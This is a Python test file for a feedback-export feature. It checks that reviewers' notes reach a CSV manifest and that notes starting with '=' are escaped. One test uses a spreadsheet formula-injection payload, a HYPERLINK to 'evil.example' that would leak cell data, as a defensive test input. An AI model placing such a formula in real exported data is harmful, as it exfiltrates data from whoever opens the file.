"""The ``note`` of ``POST /v1/feedback`` is "free text for whoever reviews it" (the API's own
words), yet nothing showed it: stored in the database, left out of ``feedback.csv``, read by no
route. A reviewer deciding whether to trust a correction ("the cap is off, look at the left")
had to query the database by hand. The export's manifest carries it."""

from __future__ import annotations

import csv
from datetime import UTC, datetime, timedelta
from pathlib import Path

from capsight.feedback.export import MANIFEST, export_feedback
from capsight.store.blobs import LocalBlobStore, sha256_hex
from capsight.store.database import Database
from capsight.store.feedback import FeedbackEntry, FeedbackStore
from capsight.store.logwriter import write_batch
from model_factory import LABEL_COLOURS, solid_image_bytes
from store.store_records import make_record


def _logged(db: Database, blobs: LocalBlobStore, image: bytes) -> str:
    record = make_record(client_id="key-a", image_sha256=sha256_hex(image), image_bytes=len(image))
    write_batch(db, blobs, [(record, image)])
    return record.request_id


def _add(store: FeedbackStore, request_id: str, label: str, note: str | None = None) -> None:
    store.add(FeedbackEntry(request_id, 0, "key-a", False, "bottle-status", label, note))


def _rows(out: Path) -> dict[str, dict[str, str]]:
    with (out / MANIFEST).open(newline="", encoding="utf-8") as fh:
        return {row["file"]: row for row in csv.DictReader(fh)}


def test_the_reviewers_note_reaches_the_manifest(database: Database, tmp_path: Path) -> None:
    blobs = LocalBlobStore(tmp_path / "images")
    store = FeedbackStore(database)
    noted = solid_image_bytes(LABEL_COLOURS["opened"], "JPEG", (60, 48))
    plain = solid_image_bytes(LABEL_COLOURS["closed"], "JPEG", (61, 48))
    note = 'the cap is off, see the left edge\n"second line", ünïcode'
    _add(store, _logged(database, blobs, noted), "opened", note)
    _add(store, _logged(database, blobs, plain), "closed")
    out = tmp_path / "train"
    export_feedback(store, blobs, out)
    rows = _rows(out)
    assert rows[f"opened/{sha256_hex(noted)}.jpg"]["note"] == note
    assert rows[f"closed/{sha256_hex(plain)}.jpg"]["note"] == ""
    # An export of only recent feedback (none here) keeps the earlier rows, notes included.
    assert export_feedback(store, blobs, out, since=datetime.now(UTC) + timedelta(days=1)).written == 0
    assert _rows(out)[f"opened/{sha256_hex(noted)}.jpg"]["note"] == note


def test_a_note_that_reads_as_a_formula_stays_text(database: Database, tmp_path: Path) -> None:
    """feedback.csv is opened in spreadsheets; a client's note starting with '=' was a formula
    there (=HYPERLINK(...) on the reviewer's screen). Such a note is written behind a quote."""
    blobs = LocalBlobStore(tmp_path / "images")
    store = FeedbackStore(database)
    image = solid_image_bytes(LABEL_COLOURS["opened"], "JPEG", (60, 48))
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    _add(store, _logged(database, blobs, image), "opened", formula)
    out = tmp_path / "train"
    export_feedback(store, blobs, out)
    assert _rows(out)[f"opened/{sha256_hex(image)}.jpg"]["note"] == "'" + formula
